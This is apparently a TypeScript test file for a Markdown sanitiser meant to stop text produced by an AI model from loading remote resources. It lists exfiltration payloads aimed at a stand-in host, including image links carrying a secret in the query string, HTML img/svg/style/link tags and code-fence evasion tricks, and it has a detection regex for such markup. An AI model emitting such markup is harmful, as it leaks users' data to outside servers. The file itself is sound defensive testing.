import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeMarkdown } from "../../../src/editor/markdown/safeMarkdown.js";

/** What could load something, wherever a Markdown renderer takes it for code or not. */
function loads(text: string): boolean {
  return (
    /!\[/.test(text) ||
    /<[a-z/](?:"[^"]*"|[^>"])*\b(src|srcset|href|style|poster|background|data)\s*=/i.test(text) ||
    /<\/?(style|link|script|svg|iframe|object)\b/i.test(text)
  );
}

describe("Markdown of a model", () => {
  test.each([
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example",
    "<img src=https://evil.example>",
    "<img\nsrc='https://evil.example'>",
    "<svg><image xlink:href='https://evil.example'/></svg>",
    '<div style="background:url(https://evil.example)">',
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "  ```js\ncode\n```\n![x](https://evil.example)\n<img src=a>",
    "- ```\n  a\n```\n<img src=a> ![x](a)",
    "`` ` <img src=a> `` ` ![x](a)",
    "\\` <img src=a> \\`",
    '`` ` <img alt=">" src=a> `` `',
    "<!-- \n```\n--> <img src=a>",
  ])("loads nothing: %j", (text) => {
    expect(loads(text)).toBe(true);
    expect(loads(safeMarkdown(text))).toBe(false);
  });

  test("whatever the pieces and their order", () => {
    const piece = fc.constantFrom(
      "```",
      "`",
      "~~~",
      "\n",
      "    ",
      "- ",
      "> ",
      "![",
      "](u)",
      "<img ",
      "src=",
      "u>",
      "<style>",
      "<b>",
      "text",
      "\\",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        expect(loads(safeMarkdown(pieces.join("")))).toBe(false);
      }),
    );
  });

  test("leaves words, links and ordinary code as they are", () => {
    const text =
      "Uses `Map<string, T>` and [a link](https://x.example).\n\n```tsx\nconst a: Array<number> = b < c;\nreturn <Row>{a}</Row>;\n```\n1 < 2";
    expect(safeMarkdown(text)).toBe(text);
  });

  test("shows HTML outside of code as text", () => {
    expect(safeMarkdown("a <b>c</b>")).toBe("a &lt;b>c&lt;/b>");
  });
});
